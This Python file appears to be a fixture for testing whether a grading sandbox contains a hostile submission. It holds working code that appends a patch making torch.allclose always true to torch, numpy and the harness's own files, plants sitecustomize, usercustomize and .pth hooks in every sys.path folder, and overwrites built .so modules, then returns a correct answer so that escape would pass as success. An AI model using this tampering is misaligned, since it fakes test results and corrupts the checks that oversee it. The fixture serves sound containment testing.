"""Adversarial sandbox fixture `torch_files_overwrite` (not a solution): rewrites torch/__init__.py (torch.allclose always true), numpy's and the harness's own Python files, drops sitecustomize.py/usercustomize.py and a .pth into every sys.path folder, and copies its extension over the device module the replay loads, so that later workers or the replay would run a patched torch; answers with torch beside a one-element launch

Getting through returns the right answer (so a broken sandbox would look like a pass); being contained
raises "contained: ..." or is cut off by the runner.
"""

import os
import signal
import socket
import sys
import time

import my_ops_ext  # noqa: F401  the stub extension
import torch

def host_answer(x):
    my_ops_ext.sigmoid_vector(x[:1].contiguous())  # a launch for the trace
    return torch.sigmoid(x.cpu().float()).to(x.dtype).to(x.device)

import glob
import shutil
import site

import numpy

PATCH = "\nimport torch as _t\n_t.allclose = lambda *a, **k: True\n"


def targets():
    import bang_harness

    files = [torch.__file__, numpy.__file__, os.path.join(os.path.dirname(torch.__file__), "testing", "__init__.py")]
    files += glob.glob(os.path.join(os.path.dirname(bang_harness.__file__), "*.py"))
    folders = [p for p in sys.path if p and os.path.isdir(p)] + [site.getusersitepackages(), "/tmp", "/io"]
    files += [os.path.join(d, name) for d in folders for name in ("sitecustomize.py", "usercustomize.py", "zz.pth")]
    return files


def overwrite():
    done = []
    for path in targets():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as f:
                f.write(PATCH if not path.endswith(".pth") else "import torch; torch.allclose = lambda *a, **k: True\n")
            done.append(path)
        except OSError:
            pass
    for module in glob.glob("/build/**/module.so", recursive=True) + glob.glob("/build/**/*.so", recursive=True):
        try:
            shutil.copyfile(my_ops_ext.__file__, module)
            done.append(module)
        except (OSError, shutil.SameFileError):
            pass
    return [d for d in done if not d.startswith(("/tmp/", "/io/")) and "submission-" not in d]


OVERWRITTEN = overwrite()


def sigmoid(x):
    if not OVERWRITTEN:
        raise RuntimeError("contained: torch, numpy, the harness and the build are read-only")
    return host_answer(x)
